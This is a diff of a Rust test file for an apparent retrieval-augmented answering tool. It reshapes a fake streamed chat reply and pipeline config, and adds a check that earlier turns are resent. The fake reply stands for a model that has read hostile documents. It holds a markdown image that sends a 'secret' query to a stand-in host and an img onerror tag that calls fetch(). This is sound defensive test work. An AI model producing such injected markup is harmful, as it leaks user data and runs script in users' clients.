@@ -14,16 +14,18 @@ const CHAT: &str = "/chat/completions";
 const EMBEDDINGS: &str = "/embeddings";
 
 /// What a model says that has read hostile documents.
-const ANSWER: &str = "Run one command [1]:\n\n```sh\nlanternctl keys rotate payments-signing\n```\n\nThe new version is the **primary** at \
-                      once [1].\n\n| What | How long |\n|:--|--:|\n| Grace period | 72 hours |\n\n![a picture](http://images.example/leak.png?q=secret) \
-                      <img src=x onerror=\"fetch('http://images.example')\">\n\n- see the script [2]\n";
+const ANSWER: &str = "Run one command [1]:\n\n```sh\nlanternctl keys rotate payments-signing\n```\n\n\
+    The new version is the **primary** at once [1].\n\n| What | How long |\n|:--|--:|\n| Grace period | 72 hours |\n\n\
+    ![a picture](http://images.example/leak.png?q=secret) <img src=x onerror=\"fetch('http://images.example')\">\n\n\
+    - see the script [2]\n";
 
 /// An answer in pieces of a few characters.
 fn chat(text: &str, between: Duration) -> Reply {
     let piece = |text: &str| format!("data: {}\n\n", json!({"choices": [{"index": 0, "delta": {"content": text}}]}));
     let characters: Vec<char> = text.chars().collect();
     let mut pieces: Vec<String> = characters.chunks(7).map(|some| piece(&some.iter().collect::<String>())).collect();
-    pieces.push("data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n".to_owned());
+    let end = json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]});
+    pieces.push(format!("data: {end}\n\ndata: [DONE]\n\n"));
     Reply::stream(pieces, between)
 }
 
@@ -31,7 +33,8 @@ fn chat(text: &str, between: Duration) -> Reply {
 fn project(api: &StandIn, embed: &str) -> Project {
     let project = Project::new();
     let pipeline = format!(
-        "version: 1\nname: lantern\nproviders:\n  api: {{ kind: openai, base_url: \"{}\", api_key: k, limits: {{ concurrency: 2 }} }}\n{embed}\
+        "version: 1\nname: lantern\nproviders:\n  api:\n    kind: openai\n    base_url: \"{}\"\n    api_key: k\n\
+         \u{20}   limits: {{ concurrency: 2 }}\n{embed}\
          sources: [{{ files: {{ paths: [\"{}\"] }} }}]\nquery:\n  retrieve: {{ limit: 3 }}\n  answer: {{ model: api/m }}\n",
         api.url(),
         samples().join("guides").display(),
@@ -61,6 +64,8 @@ async fn a_question_is_answered_and_its_sources_open_at_their_lines() {
     let project = project(&api, "");
     ingested(&project);
     visited(&project, &["-p", "lantern.yaml"], "answer");
+    let last = api.requests().pop().unwrap().body["messages"].to_string();
+    assert!(last.contains("Run one command") && last.contains("And how often?"), "what was said before goes along: {last}");
 }
 
 #[tokio::test(flavor = "multi_thread")]
